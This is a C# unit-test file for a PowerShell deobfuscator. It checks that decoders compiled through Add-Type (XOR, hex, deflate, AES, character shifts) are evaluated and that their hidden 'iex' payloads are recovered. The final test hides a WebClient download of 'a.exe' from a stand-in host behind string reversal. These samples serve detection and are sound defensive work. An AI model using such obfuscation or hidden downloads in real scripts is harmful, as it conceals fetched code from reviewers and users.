using Afterpatch.Scripts.PowerShell;
using Xunit;

namespace Afterpatch.Scripts.Tests.PowerShell;

/// <summary>C# that a script compiles: decoders in it are evaluated, its hidden texts reach the judgement.</summary>
public sealed class CompiledCodeTests
{
    private const string Plain = "Write-Host 'it is done'";

    private static string Script(string members, string run) =>
        $"Add-Type -TypeDefinition @'\nusing System;\nusing System.Linq;\nusing System.Text;\nusing System.Collections.Generic;\npublic class Kit {{\n{members}\n}}\n'@\n{run}";

    private static string Encoded(Func<byte, int, int> change) =>
        Convert.ToBase64String([.. System.Text.Encoding.ASCII.GetBytes(Plain).Select((one, at) => (byte)change(one, at))]);

    [Fact]
    public void A_cipher_with_a_static_key_is_undone()
    {
        byte[] key = [0x13, 0x37, 0x42];
        var code = Script("""
            private static readonly byte[] K = { 0x13, 0x37, 0x42 };
            public static string Open(string s) {
                byte[] d = Convert.FromBase64String(s);
                for (int i = 0; i < d.Length; i++) d[i] ^= K[i % K.Length];
                return Encoding.UTF8.GetString(d);
            }
            """, $"iex ([Kit]::Open('{Encoded((one, at) => one ^ key[at % 3])}'))");
        Assert.Equal(Plain, Deobfuscator.Judge(code).Text.Trim());
    }

    [Fact]
    public void An_instance_with_a_key_and_a_query_are_undone()
    {
        var code = Script("""
            private readonly int _by;
            public Kit(int by) { _by = by; }
            public string Open(string s) { return new string(Convert.FromBase64String(s).Select((b, i) => (char)((b - _by - i % 4) & 0xFF)).ToArray()); }
            """, $"$k = New-Object Kit 5\niex $k.Open('{Encoded((one, at) => one + 5 + at % 4)}')");
        Assert.Equal(Plain, Deobfuscator.Judge(code).Text.Trim());
    }

    [Fact]
    public void Members_under_a_given_name_are_undone()
    {
        var reversed = new string([.. Plain.Reverse()]);
        var code = $"Add-Type -Name Turn -Namespace Text.Tools -MemberDefinition 'public static string Back(string s) {{ var a = s.ToCharArray(); Array.Reverse(a); return new string(a); }}'\n"
            + $"iex ([Text.Tools.Turn]::Back('{reversed.Replace("'", "''", StringComparison.Ordinal)}'))";
        Assert.Equal(Plain, Deobfuscator.Judge(code).Text.Trim());
    }

    [Theory]
    [InlineData("public static string Next() { Count++; return \"x\" + Count; }\n static int Count;", "Write-Host ([Kit]::Next())")]
    [InlineData("public static string Where() { return Environment.MachineName + \"x\"; }", "Write-Host ([Kit]::Where())")]
    [InlineData("public static string Round() { while (true) { } }", "Write-Host ([Kit]::Round())")]
    [InlineData("public static string Deep(int n) { return Deep(n + 1); }", "Write-Host ([Kit]::Deep(1))")]
    [InlineData("public static byte[] Much() { return new byte[2000000000]; }", "Write-Host ([Kit]::Much())")]
    [InlineData("public static string Broken( { return 1 }", "Write-Host ([Kit]::Broken())")]
    public void What_depends_on_more_than_its_arguments_stays(string members, string run)
    {
        var code = Script(members, run);
        Assert.Equal(code, Deobfuscator.Judge(code).Text);
    }

    /// <summary>What decoders in C# are made of.</summary>
    [Theory]
    [InlineData("public static string A(string s) { var r = \"\"; foreach (string p in s.Split(',')) r += (char)(int.Parse(p) - 3); return r; }", "74,104,119,48,71,100,119,104")]
    [InlineData("public static string A(string s) { byte[] b = Enumerable.Range(0, s.Length / 2).Select(i => Convert.ToByte(s.Substring(i * 2, 2), 16)).ToArray(); return Encoding.ASCII.GetString(b); }", "4765742D44617465")]
    [InlineData("static Dictionary<char, char> M = new Dictionary<char, char> { { '#', 'e' } }; public static string A(string s) { var r = new StringBuilder(); foreach (var c in s) r.Append(M.ContainsKey(c) ? M[c] : c); return r.ToString(); }", "G#t-Dat#")]
    [InlineData("public static string A(string s) { using (var ms = new System.IO.MemoryStream(Convert.FromBase64String(s))) using (var gz = new System.IO.Compression.DeflateStream(ms, System.IO.Compression.CompressionMode.Decompress)) using (var sr = new System.IO.StreamReader(gz)) return sr.ReadToEnd(); }", "Deflate")]
    [InlineData("public static string A(string s) { var k = new byte[32]; for (int i = 0; i < 32; i++) k[i] = (byte)i; using (var a = System.Security.Cryptography.Aes.Create()) { a.Key = k; a.IV = new byte[16]; var b = Convert.FromBase64String(s); return Encoding.UTF8.GetString(a.CreateDecryptor().TransformFinalBlock(b, 0, b.Length)); } }", "AES")]
    [InlineData("static string X(string s, int by) { var o = String.Empty; int i = 0; while (i < s.Length) { switch (s[i]) { case ' ': break; default: o = o + (char)((int)s[i] - by); break; } i++; } return o; } public static string A(string s) { return X(s, 1); }", "Hf u.Ebuf")]
    public void A_decoder_is_evaluated(string members, string given)
    {
        if (given == "AES")
        {
            using var aes = System.Security.Cryptography.Aes.Create();
            aes.Key = [.. Enumerable.Range(0, 32).Select(i => (byte)i)];
            given = Convert.ToBase64String(aes.EncryptCbc("Get-Date"u8, new byte[16]));
        }
        if (given == "Deflate")
        {
            using var packed = new MemoryStream();
            using (var deflate = new System.IO.Compression.DeflateStream(packed, System.IO.Compression.CompressionLevel.Optimal, true))
                deflate.Write("Get-Date"u8);
            given = Convert.ToBase64String(packed.ToArray());
        }
        Assert.Equal("Get-Date", Deobfuscator.Judge(Script(members, $"iex ([Kit]::A('{given}'))")).Text.Trim());
    }

    [Fact]
    public void A_text_of_many_pieces_is_put_together()
    {
        var body = string.Join(" + ", Enumerable.Range(0, 3_000).Select(i => $"\"{(char)('a' + i % 26)}x\""));
        Assert.Equal(6_000, Deobfuscator.Judge(Script($"public static string A() {{ return {body}; }}", "Write-Host ([Kit]::A())")).Text.Trim().Length - "Write-Host ".Length);
    }

    [Fact]
    public void Deep_and_endless_code_is_given_up_and_the_rest_read()
    {
        var choices = string.Concat(Enumerable.Range(0, 5_000).Select(i => $"if (n == {i}) return \"{i}\"; else "));
        var code = Script($"public static string A(int n) {{ {choices} return \"\"; }} public static string B() {{ var s = \"a\"; while (true) s += s; }} static string C = B() + D(); static string D() {{ return C; }}",
            "Write-Host ([Kit]::A(4999)) ([Kit]::B()) ([Kit]::D())\niex ('Get-'+'Date')");
        Assert.EndsWith("Get-Date", Deobfuscator.Judge(code).Text.Trim(), StringComparison.Ordinal);
    }

    [Fact]
    public void Numbers_wrap_as_in_the_language()
    {
        var code = Script("public static string H(string s) { uint h = 2166136261; foreach (char c in s) h = (h ^ c) * 16777619; int q = 7 / 2; byte b = (byte)(200 + 100); return \"h\" + h + \"-\" + q + \"-\" + b; }",
            "Write-Host ([Kit]::H('abc'))");
        Assert.Equal("Write-Host h440920331-3-44", Deobfuscator.Judge(code).Text.Trim());
    }

    [Fact]
    public void Addresses_put_together_in_it_are_indicators()
    {
        var judgement = Deobfuscator.Judge(Script("""
            static string D(string s) { var r = ""; for (int i = s.Length - 1; i >= 0; i--) r += s[i]; return r; }
            public static void Go() { var w = new System.Net.WebClient(); w.DownloadFile("ht" + "tp://" + D("tset.elpmaxe.ndc") + "/a.exe", "a.exe"); }
            """, "[Kit]::Go()"));
        Assert.Contains(judgement.Indicators, found => found.Value == "http://cdn.example.test/a.exe");
    }
}
